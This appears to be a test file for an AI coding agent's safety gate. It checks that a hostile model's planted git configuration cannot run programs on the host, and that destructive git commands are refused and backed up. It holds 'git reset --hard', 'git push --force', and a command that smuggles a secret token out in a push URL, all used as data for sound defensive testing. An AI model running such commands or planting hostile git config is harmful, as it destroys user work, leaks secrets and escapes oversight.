/**
 * The real code paths that run git on the host, in a workspace whose repository (top-level, or nested and
 * gitlinked) a hostile model configured with every program-valued key (test/support/hostile-git.ts): the guard's
 * inspection of a refused destructive call, its backup when the call is re-issued, `undo` of that step,
 * checkpoints create/restore/undo, and the `@` file index. No planted program may run (no marker on the host),
 * and the guard still does its job: the backup exists and undo brings the work back.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import type { AnyTool } from "../../src/core/tool.ts";
import { createCheckpointStore } from "../../src/safety/checkpoints/index.ts";
import { createSafetyGate } from "../../src/safety/gate.ts";
import { createUndoJournal, safetyPaths } from "../../src/safety/journal.ts";
import { undoLastStep } from "../../src/safety/undo.ts";
import { createShellTool } from "../../src/tools/shell.ts";
import { listFiles } from "../../src/tui/file-index.ts";
import { createMarkers, hostileRepo, plantAll, setupGit } from "../support/hostile-git.ts";

const roots: string[] = [];
afterEach(() => {
  for (const r of roots.splice(0)) rmSync(r, { recursive: true, force: true });
});

function setup(where: "top-level" | "nested", options: { uploadPack?: boolean } = {}) {
  const root = mkdtempSync(join(tmpdir(), "tandem-host-git-guard-"));
  roots.push(root);
  const ws = join(root, "ws");
  const markers = createMarkers(join(root, "markers"));
  hostileRepo(ws);
  const repo = where === "nested" ? join(ws, "vendor", "lib") : ws;
  if (repo !== ws) hostileRepo(repo);
  const remote = join(root, "remote.git");
  setupGit(root, ["init", "-q", "--bare", "-b", "main", remote]);
  setupGit(repo, ["push", "-q", remote, "main"]);
  plantAll(repo, markers, remote, options);
  if (repo !== ws) {
    setupGit(ws, ["add", "-A"]);
    setupGit(ws, ["commit", "-qm", "gitlink the nested repository"]);
  }
  const paths = safetyPaths(join(root, "home"), ws);
  const store = createCheckpointStore({ workspace: ws, storeDir: paths.storeDir });
  const journal = createUndoJournal(paths.journal);
  const gate = createSafetyGate({
    mode: "auto",
    workspace: ws,
    checkpoints: store,
    journal,
    trashDir: paths.trashDir,
  });
  const shell = createShellTool({ baseEnv: process.env }) as AnyTool;
  /** The model's two calls: refused with the impact, then re-issued with a justification (backup runs). */
  async function guard(command: string) {
    const first = await gate.check({ callId: "1", tool: shell, args: { command }, cwd: repo });
    const call = { callId: "2", tool: shell, args: { command, justification: "asked" }, cwd: repo };
    const second = await gate.check(call);
    await gate.beforeRun?.(call);
    return { first, second, note: gate.takeNote("2") ?? "" };
  }
  return { root, ws, repo, remote, markers, store, journal, guard };
}

describe.each(["top-level", "nested"] as const)("a %s repository configured by the model", (where) => {
  it("git reset --hard: inspection and backup run none of its programs; undo brings the edits back", async () => {
    const { repo, markers, store, journal, guard } = setup(where);
    writeFileSync(join(repo, "a.txt"), "precious a\n");
    writeFileSync(join(repo, "c.txt"), "precious c\n");
    const { first, second, note } = await guard("git reset --hard");
    expect(markers.written()).toEqual([]);
    expect(first.action).toBe("deny");
    expect(first.action === "deny" && first.reason).toContain("a.txt");
    expect(second.action).toBe("allow");
    expect(note).toContain("backed up");
    // What the command does (it runs in the sandbox, not here): the edits are gone.
    writeFileSync(join(repo, "a.txt"), "one\n");
    writeFileSync(join(repo, "c.txt"), "c.txt\n");
    const undone = await undoLastStep(journal, store);
    expect(undone?.lines.join("\n")).toContain("git reset --hard");
    expect(readFileSync(join(repo, "a.txt"), "utf8")).toBe("precious a\n");
    expect(readFileSync(join(repo, "c.txt"), "utf8")).toBe("precious c\n");
    expect(markers.written()).toEqual([]);
  });

  it("git push --force: the remote look-ups (ls-remote, fetch) run no upload-pack or helper of the repository; the backup ref is made", async () => {
    const { repo, markers, guard } = setup(where, { uploadPack: false });
    // A local commit the remote lacks (commit-tree: no filters involved in making it).
    const local = setupGit(repo, [
      "-c",
      "commit.gpgSign=false",
      "commit-tree",
      "HEAD^{tree}",
      "-p",
      "HEAD",
      "-m",
      "local",
    ]);
    setupGit(repo, ["update-ref", "refs/heads/main", local]);
    const { first, note } = await guard("git push --force origin main");
    expect(markers.written()).toEqual([]);
    expect(first.action).toBe("deny");
    expect(note).toContain("backed up");
    expect(setupGit(repo, ["for-each-ref", "--format=%(refname)", "refs/tandem/backups"])).toContain(
      "refs/tandem/backups/",
    );
  });

  it("git push --force to a local remote when the repository names its own upload-pack: refused (fail closed), nothing ran", async () => {
    const { repo, markers, guard } = setup(where, { uploadPack: true });
    const { first, second } = await guard("git push --force origin main");
    expect(markers.written()).toEqual([]);
    expect(first.action).toBe("deny");
    expect(first.action === "deny" && first.reason).toContain("transport 'file' not allowed");
    expect(second.action).toBe("deny");
    expect(setupGit(repo, ["for-each-ref", "refs/tandem/backups"])).toBe("");
  });

  it("checkpoints create, restore and undo, and the file index, run none of its programs", async () => {
    const { ws, repo, markers, store } = setup(where);
    const first = await store.create("first");
    writeFileSync(join(repo, "a.txt"), "edited\n");
    writeFileSync(join(repo, "new.txt"), "new\n");
    await store.create("second");
    await store.restore(first.seq);
    expect(readFileSync(join(repo, "a.txt"), "utf8")).toBe(where === "nested" ? "edited\n" : "one\n");
    await store.undo();
    const listed = await listFiles("git", repo, 1000);
    expect(listed.files).toContain("a.txt");
    expect(await store.list()).not.toHaveLength(0);
    expect(ws).toBeTruthy();
    expect(markers.written()).toEqual([]);
  });
});

describe("the guard's remote look-ups", () => {
  it("a force push to a URL while commands have no network: refused, and tandem sends nothing there either", async () => {
    const requests: string[] = [];
    const server = createServer((req, res) => {
      requests.push(req.url ?? "");
      res.statusCode = 404;
      res.end();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    try {
      const { port } = server.address() as AddressInfo;
      const { guard, markers } = setup("top-level", { uploadPack: false });
      // The data the model wants out rides in the URL; the sandboxed push itself has no network.
      const { first, second } = await guard(
        `git push --force http://127.0.0.1:${port}/the-secret-token main`,
      );
      expect(requests).toEqual([]);
      expect(first.action).toBe("deny");
      expect(first.action === "deny" && first.reason).toContain("commands run without network");
      expect(second.action).toBe("deny");
      expect(markers.written()).toEqual([]);
    } finally {
      server.close();
    }
  });
});
